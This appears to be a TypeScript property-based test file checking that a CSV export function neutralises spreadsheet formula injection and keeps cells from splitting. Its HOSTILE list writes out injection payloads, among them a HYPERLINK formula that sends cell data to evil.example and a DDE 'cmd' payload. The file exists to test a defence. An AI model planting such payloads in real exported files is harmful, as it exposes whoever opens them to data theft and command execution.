// docs/security.md: T9

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf, harmless } from './csv.ts';

const FRENCH = { separator: ';', decimal: ',' } as const;

/** What a spreadsheet reads, as RFC 4180 has it. */
const parse = (csv: string, separator: string): string[][] => {
  const rows: string[][] = [[]];
  let [cell, quoted] = ['', false];
  for (let n = 1; n < csv.length; n += 1) {
    const letter = csv[n] as string;
    if (quoted && letter === '"' && csv[n + 1] === '"') {
      cell += '"';
      n += 1;
    } else if (letter === '"') quoted = !quoted;
    else if (!quoted && letter === separator) {
      rows.at(-1)?.push(cell);
      cell = '';
    } else if (!quoted && letter === '\r' && csv[n + 1] === '\n') {
      rows.at(-1)?.push(cell);
      cell = '';
      rows.push([]);
      n += 1;
    } else cell += letter;
  }
  return rows.slice(0, -1);
};

/** Names that somebody could give to a site to reach whoever opens the file. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example?x="&A1;"click")',
  '+33 1 23',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '\u2212 1',
  '\ufe661',
  '|calc',
  '%0A=1',
  'a";=1+1;"',
  'a\r\n=1+1',
  '";"=1',
];
const hostile = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary' }),
  fc
    .array(fc.constantFrom('=', '+', '-', '@', ';', ',', '"', "'", '\t', '\r', '\n', '\uff1d', ' ', 'a', '\u200e'), {
      maxLength: 12,
    })
    .map((all) => all.join('')),
);

/** The first that can be seen of a cell is none of these. */
const DANGEROUS = /^[\s\p{Z}\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

describe('a table for a spreadsheet', () => {
  it('holds no cell that could be taken for a formula, and no more cells than it was given', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(hostile, hostile), { minLength: 1, maxLength: 6 }),
        fc.constantFrom(';', ','),
        (rows, separator) => {
          const csv = csvOf(
            rows.map(([a, b]) => [a, 7, b]),
            { separator, decimal: '.' },
          );
          const read = parse(csv, separator);
          expect(read.map((row) => row.length)).toEqual(rows.map(() => 3));
          for (const [index, row] of read.entries()) {
            expect(row[1]).toBe('7');
            expect(row[0]).toBe(harmless(rows[index]?.[0] as string));
            expect(row.some((cell) => DANGEROUS.test(cell))).toBe(false);
            expect(row.join('')).not.toMatch(/[\r\n\t]/);
          }
        },
      ),
    );
  });

  it('would not be safe without that', () => {
    expect(HOSTILE.filter((name) => DANGEROUS.test(name)).length).toBeGreaterThan(12);
    for (const name of HOSTILE) expect(harmless(name)).not.toMatch(DANGEROUS);
  });

  it('leaves what is harmless as it is', () => {
    for (const name of ['Ministère de l’Intérieur 🏛️', '2026-11-24', 'مرحبا', '']) expect(harmless(name)).toBe(name);
  });

  it('is as a spreadsheet of its language wants it', () => {
    const rows = [
      ['Jour', 'Part'],
      ['2026-11-24', 97.5],
      ['2026-11-25', null],
    ];
    expect(csvOf(rows, FRENCH)).toBe('\ufeff"Jour";"Part"\r\n"2026-11-24";97,5\r\n"2026-11-25";\r\n');
    expect(csvOf([['a', 1.5]], { separator: ',', decimal: '.' })).toBe('\ufeff"a",1.5\r\n');
  });
});
